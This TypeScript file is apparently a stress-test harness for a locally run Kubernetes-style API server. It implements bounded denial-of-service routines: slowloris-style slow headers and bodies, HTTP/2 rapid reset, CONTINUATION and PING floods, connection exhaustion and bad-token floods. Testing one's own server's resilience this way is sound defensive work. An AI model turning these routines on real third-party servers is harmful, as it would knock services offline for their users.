/** What is done to the server, each as a value: written by hand on sockets, bounded, the same with the same seed. */
import { Buffer } from "node:buffer";
import { connect, type Socket } from "node:net";
import {
  FRAME,
  frame,
  literal,
  openHeadersFrame,
  openRaw,
  PREFACE,
  type RawConnection,
  requestFrame,
  resetFrame,
} from "../../tests/support/raw_http2.ts";

/** What an attack works with. */
export interface Target {
  readonly port: number;
  /** A bootstrap token: what any machine of the site has. */
  readonly token: string;
  /** 1 for the figures of the manual, less for a short run. */
  readonly scale: number;
  /** Uniform in [0, 1). */
  random(): number;
  readonly signal: AbortSignal;
}

/** An attack: it goes on until its signal ends it or it has done what it wanted. */
export interface Attack {
  readonly name: string;
  run(target: Target): Promise<void>;
}

const WHOAMI = "/apis/authentication.k8s.io/v1/selfsubjectreviews";
const CSRS = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
const LARGE = "/openapi/v2";
const FLOODERS = 20;

/** All of them. */
export const ATTACKS: readonly Attack[] = [
  { name: "10,000 connections without a handshake", run: (target) => holdMany(target, 10_000, openSilent) },
  { name: "10,000 idle TLS connections", run: (target) => holdMany(target, 10_000, () => openIdle(target)) },
  { name: "1,000 requests byte by byte", run: slowHeaders },
  { name: "1,000 bodies that never end", run: slowBodies },
  { name: "200 bodies of 3 MB at once, unfinished", run: largeBodies },
  { name: "2,000 large answers that are not read", run: unreadAnswers },
  { name: "500 watches that are not read", run: unreadWatches },
  { name: "headers without end (CONTINUATION)", run: (target) => flood(target, continuations) },
  { name: "headers without end (HTTP/1.1)", run: (target) => flood(target, endlessHeaders) },
  { name: "rapid reset by strangers", run: (target) => flood(target, (raw) => rapidReset(raw, "Bearer nobody")) },
  {
    name: "rapid reset with a token",
    run: (target) => flood(target, (raw) => rapidReset(raw, `Bearer ${target.token}`)),
  },
  { name: "PING and SETTINGS", run: (target) => flood(target, pings) },
  { name: "100,000 bad tokens", run: badTokens },
  {
    name: "requests with a token, as many as fit",
    run: (target) => flood(target, (raw) => requests(raw, target.token)),
  },
  { name: "handshakes, as many as fit", run: (target) => flood(target, () => Promise.resolve()) },
];

async function holdMany(target: Target, count: number, open: (target: Target) => Promise<{ destroy(): void }>) {
  const held: { destroy(): void }[] = [];
  await inParallel(Math.ceil(count * target.scale), 50, target.signal, async () => {
    held.push(await open(target));
  });
  await ended(target.signal);
  for (const one of held) one.destroy();
}

function openSilent({ port }: Target): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    socket.on("error", () => resolve(socket));
    socket.once("connect", () => resolve(socket));
  });
}

async function openIdle({ port }: Target): Promise<{ destroy(): void }> {
  const raw = await openRaw(port, "h2");
  await raw.write(PREFACE);
  return raw.socket;
}

async function slowHeaders(target: Target): Promise<void> {
  const held: RawConnection[] = [];
  await inParallel(Math.ceil(1_000 * target.scale), 50, target.signal, async () => {
    const raw = await openRaw(target.port, "http/1.1");
    await raw.write("GET /version HTTP/1.1\r\nhost: localhost\r\nx-slow: ");
    held.push(raw);
  });
  while (!target.signal.aborted) {
    for (const raw of held) if (!raw.isClosed()) raw.socket.write("y");
    await pause(500, target.signal);
  }
  dispose(held);
}

async function slowBodies(target: Target): Promise<void> {
  await withStreams(
    target,
    10,
    Math.ceil(100 * target.scale),
    (stream) => requestFrame(stream, "POST", WHOAMI, bearer(target.token), true),
  );
}

async function largeBodies(target: Target): Promise<void> {
  const held: RawConnection[] = [];
  const piece = Buffer.alloc(65_536, 0x20);
  await inParallel(Math.ceil(200 * target.scale), 10, target.signal, async () => {
    const raw = await openRaw(target.port, "http/1.1");
    held.push(raw);
    await raw.write(
      `POST ${WHOAMI} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.token}\r\n` +
        "content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n",
    );
    for (let sent = 0; sent < 3_000_000 && !raw.isClosed() && !target.signal.aborted; sent += piece.length) {
      await Promise.race([
        raw.write(Buffer.concat([Buffer.from("10000\r\n"), piece, Buffer.from("\r\n")])),
        pause(2_000, target.signal),
      ]);
    }
  });
  await ended(target.signal);
  dispose(held);
}

async function unreadAnswers(target: Target): Promise<void> {
  await withStreams(
    target,
    20,
    Math.ceil(100 * target.scale),
    (stream) => requestFrame(stream, "GET", LARGE, bearer(target.token)),
  );
}

async function unreadWatches(target: Target): Promise<void> {
  await withStreams(
    target,
    10,
    Math.ceil(50 * target.scale),
    (stream) =>
      requestFrame(stream, "GET", `${CSRS}?watch=1&fieldSelector=metadata.name%3Dn${stream}`, bearer(target.token)),
  );
}

/** Opens streams whose answers have no room, and keeps them. */
async function withStreams(
  target: Target,
  connections: number,
  streams: number,
  piece: (stream: number) => Buffer,
): Promise<void> {
  const held: RawConnection[] = [];
  for (let index = 0; index < connections && !target.signal.aborted; index++) {
    const raw = await openRaw(target.port, "h2");
    held.push(raw);
    await raw.write(PREFACE);
    await raw.write(frame(FRAME.settings, 0, 0, Uint8Array.of(0, 4, 0, 0, 0, 0)));
    for (let number = 0; number < streams; number++) await raw.write(piece(number * 2 + 1));
  }
  await ended(target.signal);
  dispose(held);
}

/** Some connections, again and again. */
async function flood(target: Target, attack: (raw: RawConnection, target: Target) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: Math.ceil(FLOODERS * target.scale) }, async () => {
    while (!target.signal.aborted) {
      try {
        const protocol = attack === endlessHeaders ? "http/1.1" : "h2";
        using raw = await openRaw(target.port, protocol);
        if (protocol === "h2") await raw.write(PREFACE);
        await Promise.race([attack(raw, target), ended(target.signal)]);
      } catch {
        // Turned away: once more.
        await pause(20, target.signal);
      }
    }
  }));
}

async function continuations(raw: RawConnection): Promise<void> {
  await raw.write(openHeadersFrame(1));
  const block = Buffer.concat(Array.from({ length: 16 }, (_, index) => literal(`x-${index}`, "y".repeat(1_000))));
  for (let sent = 0; sent < 10_000 && !raw.isClosed(); sent++) await raw.write(frame(FRAME.continuation, 0, 1, block));
}

async function endlessHeaders(raw: RawConnection): Promise<void> {
  await raw.write("GET /version HTTP/1.1\r\nhost: localhost\r\n");
  for (let sent = 0; sent < 10_000 && !raw.isClosed(); sent++) await raw.write(`x-${sent}: ${"y".repeat(4_000)}\r\n`);
}

async function rapidReset(raw: RawConnection, authorization: string): Promise<void> {
  for (let turn = 0; turn < 1_000 && !raw.isClosed(); turn++) {
    await raw.write(Buffer.concat(Array.from({ length: 100 }, (_, index) => {
      const stream = (turn * 100 + index) * 2 + 1;
      return Buffer.concat([requestFrame(stream, "GET", "/version", { authorization }), resetFrame(stream)]);
    })));
  }
}

async function pings(raw: RawConnection): Promise<void> {
  const piece = Buffer.concat(
    Array.from({ length: 500 }, (_, index) => index % 2 ? frame(FRAME.ping, 0, 0, new Uint8Array(8)) : frame(4, 0, 0)),
  );
  raw.socket.pause();
  for (let turn = 0; turn < 10_000 && !raw.isClosed(); turn++) await raw.write(piece);
}

async function requests(raw: RawConnection, token: string): Promise<void> {
  for (let turn = 0; turn < 10_000 && !raw.isClosed(); turn++) {
    await raw.write(Buffer.concat(
      Array.from(
        { length: 50 },
        (_, index) => requestFrame((turn * 50 + index) * 2 + 1, "GET", "/version", bearer(token)),
      ),
    ));
    if (turn % 10 === 9) await pause(20, new AbortController().signal);
  }
}

/** Over HTTP/1.1, where a connection takes as many as it likes. */
async function badTokens(target: Target): Promise<void> {
  const total = Math.ceil(100_000 * target.scale);
  const connections = Math.ceil(50 * target.scale);
  await Promise.all(Array.from({ length: connections }, async (_, connection) => {
    using raw = await openRaw(target.port, "http/1.1");
    for (let index = 0; index < total / connections && !target.signal.aborted && !raw.isClosed(); index += 50) {
      const batch = Array.from({ length: 50 }, () => {
        const digits = Math.floor(target.random() * 1e15).toString().padStart(16, "0");
        return `GET ${CSRS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer abcdef.${digits}\r\n\r\n`;
      });
      await raw.write(batch.join(""));
      const due = index + 50;
      // What is asked and not answered is bounded by us, not by the kernel.
      while (countAnswers(raw) < due - 200 && !raw.isClosed() && !target.signal.aborted) await pause(5, target.signal);
    }
    void connection;
  }));
}

const counted = new WeakMap<RawConnection, { answers: number }>();

function countAnswers(raw: RawConnection): number {
  let known = counted.get(raw);
  if (known === undefined) {
    const count = { answers: 0 };
    raw.socket.on(
      "data",
      (chunk: Buffer) => count.answers += chunk.toString("latin1").split("HTTP/1.1 401").length - 1,
    );
    counted.set(raw, known = count);
  }
  return known.answers;
}

function bearer(token: string): Record<string, string> {
  return { authorization: `Bearer ${token}`, "content-type": "application/json" };
}

async function inParallel(count: number, width: number, signal: AbortSignal, run: () => Promise<void>): Promise<void> {
  let begun = 0;
  await Promise.all(Array.from({ length: width }, async () => {
    while (begun++ < count && !signal.aborted) await run().catch(() => pause(20, signal));
  }));
}

function ended(signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
}

function pause(ms: number, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(done, ms);
    function done(): void {
      clearTimeout(timer);
      signal.removeEventListener("abort", done);
      resolve();
    }
    signal.addEventListener("abort", done, { once: true });
  });
}

function dispose(held: readonly RawConnection[]): void {
  for (const raw of held) raw[Symbol.dispose]();
}
